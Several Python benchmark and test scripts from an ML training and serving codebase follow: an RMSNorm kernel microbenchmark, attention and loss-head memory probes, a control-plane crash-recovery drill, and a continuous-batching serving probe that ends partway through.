"""Single-device NKI RMSNorm microbenchmark (chip validation for
kernels/rmsnorm_nki.py — no mesh, no GSPMD, just the custom call).

Compares the fused NKI forward against the XLA rms_norm on the same
shapes and checks numerics.  One JSON line to stdout.
"""

import json
import os
import sys

# runnable as `python tools/nki_micro.py` from anywhere
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import time

_REAL_STDOUT = os.dup(1)
os.dup2(2, 1)


def emit(line):
    os.write(_REAL_STDOUT, (line + "\n").encode())


def log(msg):
    print(msg, file=sys.stderr, flush=True)


def bench(fn, *args, iters=20):
    import jax

    out = fn(*args)
    jax.block_until_ready(out)
    t0 = time.time()
    for _ in range(iters):
        out = fn(*args)
    jax.block_until_ready(out)
    return (time.time() - t0) / iters, out


def main():
    import jax
    import jax.numpy as jnp

    from kubeoperator_trn.kernels.rmsnorm_nki import rms_norm_fused
    from kubeoperator_trn.ops.norms import rms_norm

    n = int(os.environ.get("KO_NKI_ROWS", str(256 * 128)))
    d = int(os.environ.get("KO_NKI_DIM", "1024"))
    platform = jax.devices()[0].platform
    x = jax.random.normal(jax.random.key(0), (n, d), jnp.bfloat16)
    g = jnp.ones((d,), jnp.float32) * 1.5

    xla_fn = jax.jit(lambda x, g: rms_norm(x, g))
    nki_fn = jax.jit(lambda x, g: rms_norm_fused(x, g))

    t_xla, y_xla = bench(xla_fn, x, g)
    log(f"xla rms_norm: {t_xla*1e3:.3f} ms")
    t_nki, y_nki = bench(nki_fn, x, g)
    log(f"nki rms_norm: {t_nki*1e3:.3f} ms")

    err = float(jnp.max(jnp.abs(y_xla.astype(jnp.float32)
                                - y_nki.astype(jnp.float32))))
    bytes_moved = 2 * n * d * x.dtype.itemsize
    emit(json.dumps({
        "metric": "nki_rmsnorm_micro",
        "platform": platform,
        "rows": n, "dim": d,
        "xla_ms": round(t_xla * 1e3, 3),
        "nki_ms": round(t_nki * 1e3, 3),
        "speedup": round(t_xla / t_nki, 3),
        "gbps_nki": round(bytes_moved / t_nki / 1e9, 1),
        "max_abs_err": err,
    }))


if __name__ == "__main__":
    main()
