"""Attention micro-probe: dense vs blockwise vs fused causal attention.

Bench shape (llama3_200m, bsz 256, seq 128): dense attention
materializes the [B, H, Sq, Sk] f32 scores AND the softmax probs is
saved for backward — 2 * 256*16*128*128*4 bytes = 512 MiB per layer of
score-shaped HBM traffic.  The tiled paths (blockwise XLA /
fused NKI) keep one [block, block] tile per program live and the fused
path's custom VJP recomputes tiles in backward, so score-shaped
residuals drop to zero; what remains is the unavoidable q/k/v/out
traffic.  At seq 128 with block 128 the tile equals the dense scores —
the lever grows quadratically with seq (at the 4096 max_seq_len: dense
2 TiB vs tiled 16 GiB of live tiles across programs).

This probe times value_and_grad of each impl on a scaled CPU shape and
reports the analytic score-HBM bytes at the *real* bench shape.
Wall-clock on CPU is a sanity signal only; the HBM numbers and the
parity of the three impls are what matters here.

Writes one JSON line to stdout; diagnostics to stderr.
"""

import argparse
import json
import os
import statistics
import sys
import time

# runnable as `python tools/attn_probe.py` from anywhere
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

_REAL_STDOUT = os.dup(1)
os.dup2(2, 1)

# bench shape (bench.py defaults: llama3_200m, bsz 256, seq 128)
BENCH_BATCH = 256
BENCH_SEQ = 128
BENCH_HEADS = 16
BENCH_MAX_SEQ = 4096


def emit(line):
    os.write(_REAL_STDOUT, (line + "\n").encode())


def log(msg):
    print(msg, file=sys.stderr, flush=True)


def med_time(fn, *args, n=5):
    import jax

    jax.block_until_ready(fn(*args))
    ts = []
    for _ in range(n):
        t0 = time.time()
        jax.block_until_ready(fn(*args))
        ts.append(time.time() - t0)
    return statistics.median(ts)


def score_hbm_bytes(impl: str, batch: int, seq: int, heads: int,
                    block: int) -> dict:
    """Analytic score-shaped f32 bytes: live at peak, and saved as
    backward residuals.  Dense saves the full probs tensor; the tiled
    paths keep one [block, block] tile per (batch, head) program and the
    fused custom VJP recomputes (zero score residuals)."""
    dense = batch * heads * seq * seq * 4
    tile = batch * heads * min(block, seq) ** 2 * 4
    if impl == "dense":
        return {"live": dense, "residual": dense}
    if impl == "blockwise":
        # XLA scan: tile live per step; scan saves per-step tiles for
        # backward unless rematerialized — report the tile as residual
        # floor (XLA may keep more; the fused path is the guarantee).
        return {"live": tile, "residual": tile}
    return {"live": tile, "residual": 0}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--batch", type=int, default=4)
    ap.add_argument("--seq", type=int, default=256,
                    help="probe seq (bench is 128; >block exercises tiling)")
    ap.add_argument("--heads", type=int, default=8)
    ap.add_argument("--kv-heads", type=int, default=4)
    ap.add_argument("--head-dim", type=int, default=32)
    ap.add_argument("--block", type=int, default=128)
    args = ap.parse_args()

    import jax
    import jax.numpy as jnp

    from kubeoperator_trn.ops.attention import get_attention_fn

    platform = jax.devices()[0].platform
    log(f"probe: platform={platform} b={args.batch} s={args.seq} "
        f"h={args.heads} kv={args.kv_heads} d={args.head_dim} "
        f"block={args.block}")

    key = jax.random.key(0)
    kq, kk, kv = jax.random.split(key, 3)
    q = jax.random.normal(
        kq, (args.batch, args.seq, args.heads, args.head_dim), jnp.float32)
    k = jax.random.normal(
        kk, (args.batch, args.seq, args.kv_heads, args.head_dim), jnp.float32)
    v = jax.random.normal(
        kv, (args.batch, args.seq, args.kv_heads, args.head_dim), jnp.float32)

    def grad_fn(impl):
        attn = get_attention_fn(impl, block_size=args.block)

        def f(q, k, v):
            return jnp.sum(attn(q, k, v) ** 2)

        return jax.jit(jax.value_and_grad(f, argnums=(0, 1, 2)))

    result = {
        "metric": "attn_dense_vs_tiled",
        "platform": platform,
        "probe_shape": {"batch": args.batch, "seq": args.seq,
                        "heads": args.heads, "kv_heads": args.kv_heads,
                        "head_dim": args.head_dim, "block": args.block},
        "bench_shape": {"batch": BENCH_BATCH, "seq": BENCH_SEQ,
                        "heads": BENCH_HEADS},
        "variants": [],
    }

    ref = None
    for impl in ("dense", "blockwise", "nki"):
        fn = grad_fn(impl)
        t = med_time(fn, q, k, v)
        loss, _ = fn(q, k, v)
        if ref is None:
            ref = float(loss)
        bench = score_hbm_bytes(impl, BENCH_BATCH, BENCH_SEQ,
                                BENCH_HEADS, args.block)
        maxseq = score_hbm_bytes(impl, BENCH_BATCH, BENCH_MAX_SEQ,
                                 BENCH_HEADS, args.block)
        entry = {
            "impl": impl,
            "wall_ms": round(t * 1e3, 2),
            "loss_rel_err": abs(float(loss) - ref) / max(abs(ref), 1e-9),
            "bench_score_bytes": bench,
            "maxseq_score_bytes": maxseq,
        }
        log(f"probe: {impl} {entry['wall_ms']}ms rel_err="
            f"{entry['loss_rel_err']:.2e} bench_residual="
            f"{bench['residual']/2**20:.0f}MiB maxseq_residual="
            f"{maxseq['residual']/2**30:.1f}GiB")
        result["variants"].append(entry)

    result["note"] = (
        "nki impl runs the fused custom-VJP path (NKI kernel on neuron, "
        "blockwise XLA fallback here); residual bytes are score-shaped "
        "backward residuals — the fused path recomputes tiles instead"
    )
    emit(json.dumps(result))


if __name__ == "__main__":
    main()
