"""Control-plane crash drill (ISSUE 12): exit-code-enforced, chip-free.

Live-fire proof that the durable task queue survives the death of the
control plane itself.  Three legs:

  A. **SIGKILL mid-create, resume with zero duplicate side effects.**
     A child ops server (build_app on a file DB, real TaskEngine, real
     phase loop) runs a cluster create whose runner appends one line
     per COMPLETED phase to a marks file (the side-effect ledger — a
     phase killed mid-flight leaves no line).  The parent SIGKILLs the
     server partway through, asserts the DB shows a task stranded
     Running with completed phases, restarts the server on the same DB,
     and asserts boot recovery resumes the task from its first
     non-Success phase to Success with every phase's side effect
     occurring EXACTLY once — nothing re-ran, nothing was skipped.

  B. **Persisted restart backoff survives engine death.**  A phase
     exits KO_EXIT_PREEMPTED, scheduling a restart ``not_before``
     timestamp in the queue row (no threading.Timer).  The engine is
     torn down and a fresh one built on the same DB: the row (and its
     deadline) must survive recovery untouched, the task must NOT run
     before the deadline, and must complete after it.

  C. **Priority preemption end to end.**  On a single-worker engine a
     low-priority preemptible task blocks in its phase; enqueueing a
     high-priority task makes the engine interrupt the low one
     (checkpoint-exit, rc=KO_EXIT_PREEMPTED), run the high task first,
     then restart the preempted task after its backoff and finish it.

Any failed assertion exits nonzero (sweep-row contract:
``python tools/sweep.py --exps controlplane_drill``).  KO_PROBE_FAST=1
shrinks phase durations for CI.
"""

import collections
import json
import os
import signal
import subprocess
import sys
import time
import urllib.request
from dataclasses import asdict

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, REPO)

FAILURES = []


def check(name, ok, detail=""):
    tag = "ok" if ok else "FAIL"
    print(f"sweep: controlplane_drill {tag}: {name}"
          + (f" ({detail})" if detail else ""), flush=True)
    if not ok:
        FAILURES.append(name)


def _fast() -> bool:
    return os.environ.get("KO_PROBE_FAST") == "1"


def _phase_s() -> float:
    raw = os.environ.get("KO_PROBE_PHASE_S", "")
    if raw:
        return float(raw)
    return 0.08 if _fast() else 0.25


# ------------------------------------------------------------ child server

class MarkRunner:
    """Runner whose only side effect is one appended line per COMPLETED
    phase — the drill's duplicate-side-effect ledger.  The line is
    written AFTER the sleep, so a phase killed mid-flight leaves no
    mark and a correct resume yields exactly one line per phase."""

    def __init__(self, marks_path: str, phase_s: float):
        self.marks_path = marks_path
        self.phase_s = phase_s

    def run(self, playbook, inventory, extra_vars, log):
        from kubeoperator_trn.cluster.runner import PhaseResult

        time.sleep(self.phase_s)
        with open(self.marks_path, "a") as f:
            f.write(playbook + "\n")
        log(f"[mark] {playbook} done")
        return PhaseResult(ok=True, rc=0, summary="ok")


def serve_main(db_path: str, port: int, marks: str) -> int:
    from kubeoperator_trn.cluster.api import make_server
    from kubeoperator_trn.server import build_app

    runner = MarkRunner(marks, _phase_s())
    api, engine, db = build_app(db_path=db_path, runner=runner,
                                require_auth=False, workers=1)
    server, thread = make_server(api, "127.0.0.1", port)
    print(f"ops server ready on {server.server_address[1]}", flush=True)
    thread.start()
    thread.join()
    return 0


# ------------------------------------------------------------------ leg A

def _req(base, method, path, body=None, timeout=5.0):
    data = json.dumps(body).encode() if body is not None else None
    req = urllib.request.Request(base + path, data=data, method=method)
    req.add_header("Content-Type", "application/json")
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.status, json.loads(resp.read())


def _wait_serving(base, timeout_s=20.0) -> bool:
    t0 = time.monotonic()
    while time.monotonic() - t0 < timeout_s:
        try:
            with urllib.request.urlopen(base + "/healthz", timeout=1.0) as r:
                if r.status == 200:
                    return True
        except Exception:  # noqa: BLE001
            time.sleep(0.05)
    return False


def _spawn_server(db_path, port, marks) -> subprocess.Popen:
    env = dict(os.environ, JAX_PLATFORMS="cpu")
    return subprocess.Popen(
        [sys.executable, os.path.abspath(__file__), "--serve",
         "--db", db_path, "--port", str(port), "--marks", marks],
        cwd=REPO, env=env, stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL)


def _marks(path) -> list:
    if not os.path.exists(path):
        return []
    with open(path) as f:
        return [ln.strip() for ln in f if ln.strip()]


def leg_a_crash_resume(tmp: str):
    import socket

    from kubeoperator_trn.cluster import entities as E
    from kubeoperator_trn.cluster.db import DB

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    db_path = os.path.join(tmp, "cp.db")
    marks = os.path.join(tmp, "marks.txt")
    base = f"http://127.0.0.1:{port}"

    proc = _spawn_server(db_path, port, marks)
    check("A: ops server up", _wait_serving(base))
    _, out = _req(base, "POST", "/api/v1/clusters", {
        "name": "drill", "spec": {},
        "nodes": [{"name": "m1", "role": "master"}]})
    task_id = out["task_id"]
    _, task = _req(base, "GET", f"/api/v1/tasks/{task_id}")
    n_phases = len(task["phases"])
    check("A: create task has a full phase plan", n_phases >= 10,
          f"{n_phases} phases")

    # let a few phases complete, then murder the control plane mid-phase
    deadline = time.monotonic() + 60
    while len(_marks(marks)) < 3 and time.monotonic() < deadline:
        time.sleep(0.02)
    time.sleep(_phase_s() * 0.5)
    proc.kill()
    proc.wait(timeout=10)
    marks_at_kill = _marks(marks)
    check("A: killed mid-task", 3 <= len(marks_at_kill) < n_phases,
          f"{len(marks_at_kill)}/{n_phases} phases marked at SIGKILL")

    # the DB is the crime scene: task stranded Running, lease orphaned
    db = DB(db_path)
    stranded = db.get("tasks", task_id)
    done_before = [p["name"] for p in stranded["phases"]
                   if p["status"] == E.T_SUCCESS]
    check("A: task stranded Running in DB",
          stranded["status"] == E.T_RUNNING, stranded["status"])
    check("A: completed phases persisted", len(done_before) >= 3,
          f"{len(done_before)} Success phases")
    rows = db.queue_rows()
    check("A: queue row survived the crash",
          any(r["task_id"] == task_id for r in rows), str(rows))
    db._conn.close()

    # restart on the same DB: boot recovery must resume, not restart
    proc = _spawn_server(db_path, port, marks)
    check("A: ops server restarted", _wait_serving(base))
    deadline = time.monotonic() + 120
    status = "?"
    while time.monotonic() < deadline:
        _, task = _req(base, "GET", f"/api/v1/tasks/{task_id}")
        status = task["status"]
        if status in (E.T_SUCCESS, E.T_FAILED, E.T_CANCELLED):
            break
        time.sleep(0.1)
    check("A: task resumed to Success after restart",
          status == E.T_SUCCESS, status)
    check("A: recovery message recorded",
          any("recovered" in (e.get("kind") or "")
              for e in _req(base, "GET", "/api/v1/events")[1]["items"]),
          "no task.recovered event")

    counts = collections.Counter(_marks(marks))
    dupes = {k: v for k, v in counts.items() if v > 1}
    check("A: zero duplicate phase side effects", not dupes, str(dupes))
    check("A: every phase side effect happened exactly once",
          len(counts) == n_phases and sum(counts.values()) == n_phases,
          f"{sum(counts.values())} marks / {n_phases} phases")
    _, q = _req(base, "GET", "/api/v1/queue")
    check("A: queue drained after success",
          all(r["task_id"] != task_id for r in q["items"]), str(q))
    proc.kill()
    proc.wait(timeout=10)


# ------------------------------------------------------------------ leg B

def _mk_task(db, op="app", playbooks=("p1",), priority=0, tenant="default",
             preemptible=False):
    from kubeoperator_trn.cluster import entities as E

    task = asdict(E.Task(cluster_id="none", op=op))
    task["phases"] = [asdict(E.Phase(name=p, playbook=p)) for p in playbooks]
    task["priority"] = priority
    task["tenant"] = tenant
    task["preemptible"] = preemptible
    db.put("tasks", task["id"], task, name=f"drill-{op}")
    return task


def _wait_status(db, task_id, statuses, timeout_s=30.0):
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        t = db.get("tasks", task_id)
        if t and t["status"] in statuses:
            return t
        time.sleep(0.02)
    return db.get("tasks", task_id)


def leg_b_persisted_backoff(tmp: str):
    from kubeoperator_trn.cluster import entities as E
    from kubeoperator_trn.cluster.db import DB
    from kubeoperator_trn.cluster.runner import FakeRunner, PhaseResult
    from kubeoperator_trn.cluster.taskengine import TaskEngine
    from kubeoperator_trn.exitcodes import resolve_exit_preempted

    backoff = 0.8 if _fast() else 1.5
    db_path = os.path.join(tmp, "backoff.db")
    db1 = DB(db_path)
    # first run of p1 checkpoints out (rc=KO_EXIT_PREEMPTED) -> the
    # engine schedules a restart not_before in the queue row
    r1 = FakeRunner(script={"p1": [
        PhaseResult(ok=False, rc=resolve_exit_preempted(), summary="evict"),
        PhaseResult(ok=True, rc=0, summary="ok")]})
    eng1 = TaskEngine(db1, r1, workers=1, restart_backoff_s=backoff,
                      lease_s=5.0)
    task = _mk_task(db1, playbooks=("p1",))
    eng1.enqueue(task["id"])
    # wait for the requeued-with-backoff state (Pending + restarts==1);
    # plain Pending is also the pre-run state, so poll on restarts
    deadline = time.monotonic() + 10.0
    t = db1.get("tasks", task["id"])
    while time.monotonic() < deadline:
        t = db1.get("tasks", task["id"])
        if t.get("restarts", 0) >= 1:
            break
        time.sleep(0.02)
    check("B: task requeued after preempt-exit",
          t.get("restarts", 0) == 1 and t["status"] == E.T_PENDING,
          f"status={t['status']} restarts={t.get('restarts')}")
    row = next((r for r in db1.queue_rows() if r["task_id"] == task["id"]),
               None)
    t_kill = time.time()
    check("B: restart deadline persisted in queue row",
          row is not None and row["not_before"] > t_kill,
          str(row))
    not_before = row["not_before"] if row else 0.0
    eng1.shutdown(timeout_s=5.0)
    db1._conn.close()

    # fresh engine on the same DB — the control plane "restarted"
    db2 = DB(db_path)
    r2 = FakeRunner()
    eng2 = TaskEngine(db2, r2, workers=1, restart_backoff_s=backoff,
                      lease_s=5.0)
    row2 = next((r for r in db2.queue_rows() if r["task_id"] == task["id"]),
                None)
    check("B: recovery left the backoff row intact",
          row2 is not None and row2["not_before"] == not_before, str(row2))
    # must NOT run before the deadline
    margin = not_before - time.time() - 0.25
    if margin > 0:
        time.sleep(margin)
        check("B: not run before not_before", len(r2.invocations) == 0,
              f"{len(r2.invocations)} invocations early")
    t = _wait_status(db2, task["id"], (E.T_SUCCESS, E.T_FAILED),
                     timeout_s=backoff + 15.0)
    ran_at = time.time()
    check("B: task completed after the deadline",
          t["status"] == E.T_SUCCESS and ran_at >= not_before,
          f"status={t['status']}")
    check("B: restarted exactly once", t.get("restarts", 0) == 1,
          str(t.get("restarts")))
    eng2.shutdown(timeout_s=5.0)
    db2._conn.close()


# ------------------------------------------------------------------ leg C

def leg_c_preemption(tmp: str):
    from kubeoperator_trn.cluster import entities as E
    from kubeoperator_trn.cluster.db import DB
    from kubeoperator_trn.cluster.runner import FakeRunner
    from kubeoperator_trn.cluster.taskengine import TaskEngine

    backoff = 0.3 if _fast() else 0.6
    db = DB(os.path.join(tmp, "preempt.db"))
    runner = FakeRunner(blocking=("low-train",), block_timeout_s=30.0)
    eng = TaskEngine(db, runner, workers=1, restart_backoff_s=backoff,
                     lease_s=5.0, poll_s=0.02)
    low = _mk_task(db, op="app", playbooks=("low-train",), priority=0,
                   preemptible=True)
    eng.enqueue(low["id"])
    deadline = time.monotonic() + 10
    while not runner.invocations and time.monotonic() < deadline:
        time.sleep(0.01)
    check("C: low-priority training task running",
          bool(runner.invocations), "never started")

    high = _mk_task(db, op="app", playbooks=("high-serve",), priority=10)
    eng.enqueue(high["id"])
    t_high = _wait_status(db, high["id"], (E.T_SUCCESS, E.T_FAILED),
                          timeout_s=20.0)
    check("C: high-priority task claimed the worker",
          t_high["status"] == E.T_SUCCESS, t_high["status"])
    t_low = db.get("tasks", low["id"])
    check("C: low task checkpointed out (preempted, restart scheduled)",
          t_low.get("restarts", 0) == 1 and t_low["status"] in
          (E.T_PENDING, E.T_RUNNING, E.T_SUCCESS),
          f"status={t_low['status']} restarts={t_low.get('restarts')}")
    t_low = _wait_status(db, low["id"], (E.T_SUCCESS, E.T_FAILED),
                         timeout_s=backoff + 20.0)
    check("C: preempted task restarted and finished",
          t_low["status"] == E.T_SUCCESS, t_low["status"])
    order_ok = (t_high.get("finished_at") or 0) <= \
        (t_low.get("finished_at") or 0)
    check("C: high priority finished first", order_ok,
          f"high={t_high.get('finished_at')} low={t_low.get('finished_at')}")
    check("C: preemption counted",
          eng.metrics["preemptions"].labels(op="app").value >= 1)
    eng.shutdown(timeout_s=5.0)
    db._conn.close()


# ------------------------------------------------------------------- main

def main() -> int:
    import tempfile

    os.environ.setdefault("JAX_PLATFORMS", "cpu")
    with tempfile.TemporaryDirectory(prefix="ko-cp-drill-") as tmp:
        leg_a_crash_resume(tmp)
        leg_b_persisted_backoff(tmp)
        leg_c_preemption(tmp)

    if FAILURES:
        print(f"sweep: controlplane_drill FAILED: {FAILURES}", flush=True)
        return 1
    print("sweep: controlplane_drill all checks passed", flush=True)
    print(json.dumps({"probe": "controlplane", "checks_failed": 0}),
          flush=True)
    return 0


if __name__ == "__main__":
    import argparse

    ap = argparse.ArgumentParser()
    ap.add_argument("--serve", action="store_true")
    ap.add_argument("--db", default="")
    ap.add_argument("--port", type=int, default=0)
    ap.add_argument("--marks", default="")
    args = ap.parse_args()
    if args.serve:
        raise SystemExit(serve_main(args.db, args.port, args.marks))
    raise SystemExit(main())
