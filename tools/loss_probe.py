"""Loss-head micro-probe: dense vs chunked fused cross-entropy.

The bench config's dense head materializes [B*S, V] f32 logits and JAX
saves them for the backward pass — at bsz256 seq128 vocab32768 that is
32768*32768*4 = 4.3 GB of HBM for one activation, and the reason
KO_BENCH_BSZ=512 died in LoadExecutable.  The chunked head
(ops/losses.py) scans [chunk, V] tiles and recomputes them in backward,
so the live-logits footprint is chunk*V*4 bytes regardless of batch.

This probe times value_and_grad of both heads on a bench-shaped token
stream (scaled down by --tokens so it runs on CPU in seconds) and
reports the analytic peak-logits bytes at the *real* bench shape for
each chunk size.  Wall-clock on CPU is a sanity signal only — the HBM
number is the one the tentpole is about; expect the chunked path to pay
~2*D*V extra matmul FLOPs/token for the backward recompute.

Writes one JSON line to stdout; diagnostics to stderr.
"""

import argparse
import json
import os
import statistics
import sys
import time

# runnable as `python tools/loss_probe.py` from anywhere
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

_REAL_STDOUT = os.dup(1)
os.dup2(2, 1)

# bench shape (bench.py defaults: llama3_200m, bsz 256, seq 128)
BENCH_TOKENS = 256 * 128
BENCH_VOCAB = 32768


def emit(line):
    os.write(_REAL_STDOUT, (line + "\n").encode())


def log(msg):
    print(msg, file=sys.stderr, flush=True)


def med_time(fn, *args, n=5):
    import jax

    jax.block_until_ready(fn(*args))
    ts = []
    for _ in range(n):
        t0 = time.time()
        jax.block_until_ready(fn(*args))
        ts.append(time.time() - t0)
    return statistics.median(ts)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--tokens", type=int, default=4096,
                    help="probe token count (bench is 32768)")
    ap.add_argument("--dim", type=int, default=256)
    ap.add_argument("--vocab", type=int, default=4096,
                    help="probe vocab (bench is 32768)")
    ap.add_argument("--chunks", type=int, nargs="*",
                    default=[256, 1024, 4096])
    args = ap.parse_args()

    import jax
    import jax.numpy as jnp

    from kubeoperator_trn.ops import losses

    platform = jax.devices()[0].platform
    log(f"probe: platform={platform} tokens={args.tokens} "
        f"dim={args.dim} vocab={args.vocab}")

    key = jax.random.key(0)
    kx, kw, kt = jax.random.split(key, 3)
    x = jax.random.normal(kx, (args.tokens, args.dim), jnp.bfloat16)
    w = (jax.random.normal(kw, (args.dim, args.vocab), jnp.float32)
         / args.dim ** 0.5)
    tg = jax.random.randint(kt, (args.tokens,), 0, args.vocab)

    def head_loss(chunk):
        def f(x, w):
            loss, _ = losses.chunked_cross_entropy(x, w, tg, chunk=chunk)
            return loss
        return jax.jit(jax.value_and_grad(f, argnums=(0, 1)))

    def logits_bytes(chunk, tokens):
        live = tokens if chunk <= 0 else min(chunk, tokens)
        return live * BENCH_VOCAB * 4

    result = {
        "metric": "loss_head_dense_vs_chunked",
        "platform": platform,
        "probe_shape": {"tokens": args.tokens, "dim": args.dim,
                        "vocab": args.vocab},
        "bench_shape": {"tokens": BENCH_TOKENS, "vocab": BENCH_VOCAB},
        "default_ce_chunk": losses.resolve_ce_chunk(None),
        "variants": [],
    }

    for chunk in [0] + [c for c in args.chunks if c > 0]:
        t = med_time(head_loss(chunk), x, w)
        entry = {
            "chunk": chunk,
            "wall_ms": round(t * 1e3, 2),
            "bench_peak_logits_bytes": logits_bytes(chunk, BENCH_TOKENS),
        }
        log(f"probe: chunk={chunk or 'dense'} {entry['wall_ms']}ms "
            f"bench_logits={entry['bench_peak_logits_bytes']/2**20:.0f}MiB")
        result["variants"].append(entry)

    dense = result["variants"][0]
    result["note"] = (
        f"dense saves {dense['bench_peak_logits_bytes']/2**30:.1f} GiB of "
        "f32 logits for backward at the bench shape; chunked keeps only "
        "one [chunk, V] tile live and recomputes it in backward"
    )
    emit(json.dumps(result))


if __name__ == "__main__":
    main()
