"""Serving-plane probe: continuous batching vs one-request-at-a-time.

`engine.generate` serves one request per decode stream, so a replica's
aggregate tok/s is flat no matter how many requests queue up.  The
continuous-batching scheduler (infer/scheduler.py) decodes a slot batch
per iteration instead — N concurrent requests cost one dispatch — so
aggregate throughput should scale with occupancy until the slot batch
or the KV pool saturates.

This probe measures that claim with a closed-loop load generator: a
fixed synthetic request set (mixed prompt/output lengths) is replayed
at each --concurrency level, keeping exactly c requests in flight and
refilling as they finish.  Per level it reports aggregate decode tok/s,
TTFT p50/p95, and mean batch occupancy; the headline `scaling` number
is tok/s at the highest level over tok/s at concurrency 1.  It also
replays the set through sequential `generate` (the pre-scheduler path)
as a baseline, checks temperature-0 outputs are token-for-token
identical, and asserts the compile counter stays flat after warmup
(shape bucketing means steady-state serving never retraces).

KO_PROBE_FAST=1 shrinks the request set for CI.  Scheduler shape knobs
(KO_INFER_SLOTS / KO_INFER_KV_BLOCK / KO_INFER_PREFILL_CHUNK) are
honored, so sweep.py rows can scan them.

Writes one JSON line to stdout; diagnostics to stderr.
"""

import argparse
import json
import os
import sys
import time

# runnable as `python tools/serve_probe.py` from anywhere
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

# Claimed in main(), not at import, so tests can import the helpers
# without the probe stealing the interpreter's stdout.
_REAL_STDOUT = None


def _claim_stdout():
    global _REAL_STDOUT
    _REAL_STDOUT = os.dup(1)
    os.dup2(2, 1)


def emit(line):
    fd = 1 if _REAL_STDOUT is None else _REAL_STDOUT
    os.write(fd, (line + "\n").encode())


def log(msg):
    print(msg, file=sys.stderr, flush=True)


def percentile(xs, q):
    if not xs:
        return None
    xs = sorted(xs)
    i = min(len(xs) - 1, int(round(q / 100 * (len(xs) - 1))))
    return xs[i]


def make_requests(cfg, n, max_new, seed=0):
    """Deterministic mixed-length request set: prompts span short chat
    turns to near the chunk boundary, outputs from 1/4 to full max_new."""
    import numpy as np

    rng = np.random.default_rng(seed)
    hi = max(8, min(cfg.max_seq_len // 4, 48))
    reqs = []
    for _ in range(n):
        s = int(rng.integers(2, hi))
        prompt = rng.integers(0, cfg.vocab_size, size=s).astype(np.int32)
        new = int(rng.integers(max(1, max_new // 4), max_new + 1))
        reqs.append((prompt, new))
    return reqs


def make_prefix_requests(cfg, n, shared_len, tail_max, max_new, seed=0,
                         tail_seed=None):
    """Shared-system-prompt workload: every request starts with the SAME
    ``shared_len``-token prefix (drawn from ``seed``) followed by a
    short per-request "user turn" tail drawn from ``tail_seed`` — vary
    the tail seed between passes to model fresh user traffic against a
    warm cache."""
    import numpy as np

    rng = np.random.default_rng(seed)
    shared = rng.integers(0, cfg.vocab_size, size=shared_len).astype(
        np.int32)
    t_rng = np.random.default_rng(seed + 1 if tail_seed is None
                                  else tail_seed)
    reqs = []
    for _ in range(n):
        t = int(t_rng.integers(1, tail_max + 1))
        tail = t_rng.integers(0, cfg.vocab_size, size=t).astype(np.int32)
        reqs.append((np.concatenate([shared, tail]), max_new))
    return reqs


def run_threaded_loop(sched, reqs, concurrency):
    """Closed loop against a scheduler running on its OWN thread
    (``sched.start()``): the driver only submits and polls, so each
    scheduler's step cadence — and thus its ITL histogram — reflects
    its own loop, not this thread's.  Used by the disagg leg where the
    prefill and decode schedulers must run concurrently."""
    it = iter(reqs)
    inflight, results = [], {}
    submitted = 0
    t0 = time.perf_counter()
    while len(results) < len(reqs):
        while len(inflight) < concurrency:
            try:
                prompt, new = next(it)
            except StopIteration:
                break
            h = sched.submit(prompt, max_new_tokens=new)
            inflight.append((submitted, h))
            submitted += 1
        still = []
        for idx, h in inflight:
            if h.done:
                results[idx] = h
            else:
                still.append((idx, h))
        inflight = still
        if len(results) < len(reqs):
            time.sleep(0.001)
    wall = time.perf_counter() - t0
    outs = [results[i].result(timeout=0) for i in range(len(reqs))]
    new_tokens = sum(len(results[i].tokens) for i in range(len(reqs)))
    ttfts = [results[i].ttft_s for i in range(len(reqs))
             if results[i].ttft_s is not None]
    return {
        "concurrency": concurrency,
        "wall_s": round(wall, 4),
        "agg_decode_tps": round(new_tokens / wall, 1),
        "new_tokens": new_tokens,
        "ttft_p50_ms": round(percentile(ttfts, 50) * 1e3, 2)
        if ttfts else None,
        "ttft_p95_ms": round(percentile(ttfts, 95) * 1e3, 2)
        if ttfts else None,
    }, outs


def run_closed_loop(sched, reqs, concurrency, submit_kw=None):
    """Replay `reqs` keeping `concurrency` in flight; drive step() on
    this thread so the measurement has no poll-loop sleeps in it.
    `submit_kw` is an optional per-request list of extra submit()
    kwargs (sampling legs use it to pin temperature/top_k/seed)."""
    it = iter(reqs)
    inflight, results = [], {}
    occ_samples = []
    new_tokens = 0
    t0 = time.perf_counter()
    submitted = 0
    while len(results) < len(reqs):
        while len(inflight) < concurrency:
            try:
                prompt, new = next(it)
            except StopIteration:
                break
            extra = submit_kw[submitted] if submit_kw else {}
            h = sched.submit(prompt, max_new_tokens=new, **extra)
            inflight.append((submitted, h))
            submitted += 1
        sched.step()
        occ_samples.append(sched.active / sched.sc.slots)
        still = []
        for idx, h in inflight:
            if h.done:
                results[idx] = h
                new_tokens += len(h.tokens)
            else:
                still.append((idx, h))
        inflight = still
    wall = time.perf_counter() - t0
    ttfts = [results[i].ttft_s for i in range(len(reqs))]
    return {
        "concurrency": concurrency,
        "wall_s": round(wall, 4),
        "agg_decode_tps": round(new_tokens / wall, 1),
        "new_tokens": new_tokens,
        "ttft_p50_ms": round(percentile(ttfts, 50) * 1e3, 2),
        "ttft_p95_ms": round(percentile(ttfts, 95) * 1e3, 2),
        "mean_occupancy": round(sum(occ_samples) / len(occ_samples), 3),
        "steps": len(occ_samples),
    }, [results[i].result(timeout=0) for i in range(len(reqs))]


def run_sequential(cfg, params, reqs):
    """Pre-scheduler baseline: one `generate` call per request."""
    from kubeoperator_trn.infer import engine

    outs = []
    new_tokens = 0
    t0 = time.perf_counter()
    for prompt, new in reqs:
        out = engine.generate(cfg, params, prompt[None],
                              max_new_tokens=new)
        outs.append([int(t) for t in out[0]])
        new_tokens += new
    wall = time.perf_counter() - t0
    return {
        "wall_s": round(wall, 4),
        "agg_decode_tps": round(new_tokens / wall, 1),
